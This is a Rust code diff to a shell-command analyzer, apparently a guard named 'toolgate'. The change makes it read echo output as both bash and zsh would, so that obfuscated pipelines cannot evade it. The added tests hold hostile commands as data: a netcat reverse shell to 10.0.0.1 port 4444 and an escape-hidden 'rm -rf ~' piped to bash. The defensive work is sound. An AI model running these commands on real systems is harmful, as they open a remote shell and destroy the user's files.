@@ -733,7 +733,7 @@ impl Analyzer {
             let programs = self.programs_since(before);
             let stage = &self.commands[before.min(self.commands.len())..];
             let (text, paths) = match stage {
-                [cmd] => (printed_text(cmd), self.printed_paths(cmd)),
+                [cmd] => (printed_text_any_shell(cmd), self.printed_paths(cmd)),
                 _ => (None, Vec::new()),
             };
             let mut next = self.pipe.take().unwrap_or_default();
@@ -1067,7 +1067,7 @@ impl Analyzer {
         self.procsubs += 1;
         let stage = &self.commands[before.min(self.commands.len())..];
         let content = match stage {
-            [only] => printed_text(only).map(Written::Text),
+            [only] => printed_text_any_shell(only).map(Written::Text),
             _ => None,
         }
         .or_else(|| self.stage_source(before).map(Written::From));
@@ -1449,6 +1449,24 @@ impl Analyzer {
 
 /// The literal text a command prints, if it only prints literals (`echo`, `printf`, a
 /// heredoc into `cat`), with escapes interpreted the way the program does.
+/// What a stage prints, as code or content someone may run: bash's `echo` prints `\n` as
+/// written, zsh's (macOS' default shell) as a newline, so a plain `echo` with `\n` yields
+/// both readings, one after the other.
+pub(crate) fn printed_text_any_shell(cmd: &Command) -> Option<String> {
+    let text = printed_text(cmd)?;
+    let plain_echo = cmd.program == "echo"
+        && !cmd
+            .args
+            .iter()
+            .take_while(|a| a.text.starts_with('-'))
+            .any(|a| a.text.contains('e'));
+    if plain_echo && text.contains("\\n") {
+        return Some(format!("{text}\n{}", text.replace("\\n", "\n")));
+    }
+    Some(text)
+}
+
+/// What a stage prints, read as bash prints it.
 pub(crate) fn printed_text(cmd: &Command) -> Option<String> {
     if cmd.args.iter().any(|a| a.dynamic) {
         return None;
@@ -1474,10 +1492,6 @@ pub(crate) fn printed_text(cmd: &Command) -> Option<String> {
             let text = words.join(" ");
             Some(if escapes {
                 decode_printf_escapes(&text)
-            } else if text.contains("\\n") {
-                // bash's echo prints `\n` as written, zsh's (macOS' default shell) as a
-                // newline: a shell reading the output sees one or the other, so both are read.
-                format!("{text}\n{}", text.replace("\\n", "\n"))
             } else {
                 text
             })
@@ -2191,6 +2205,23 @@ mod tests {
         assert_eq!(brace_expand("${x}"), ["${x}"]);
         assert_eq!(brace_expand("{}"), ["{}"]);
         assert_eq!(brace_expand("{1..100000}"), ["{1..100000}"]);
+    }
+
+    /// Regressions from `toolgate evade` and the pipeline fuzzer (issue 12).
+    #[test]
+    fn printed_text_is_read_as_the_reader_would() {
+        // A substitution's value is what bash's echo prints: `\n` as written.
+        let a = analyze_now(r#"git commit -m "$(echo 'fix\nbug')""#, &env());
+        assert_eq!(a.commands.last().unwrap().args[2].text, r"fix\nbug");
+        // A shell reading a pipe may have been fed by zsh's echo: both readings are run.
+        let shown = commands(r"echo '\nc -e /bin/sh 10.0.0.1 4444' | sh");
+        assert!(
+            shown.iter().any(|c| c.starts_with("nc -e /bin/sh")),
+            "{shown:?}"
+        );
+        // printf reads escapes in its format, never in a %s argument.
+        let shown = commands(r"printf '%s' 'bash -c '\''rm -rf ~'\''' | xargs -0 bash -c");
+        assert!(shown.iter().any(|c| c.starts_with("rm -rf")), "{shown:?}");
     }
 
     #[test]
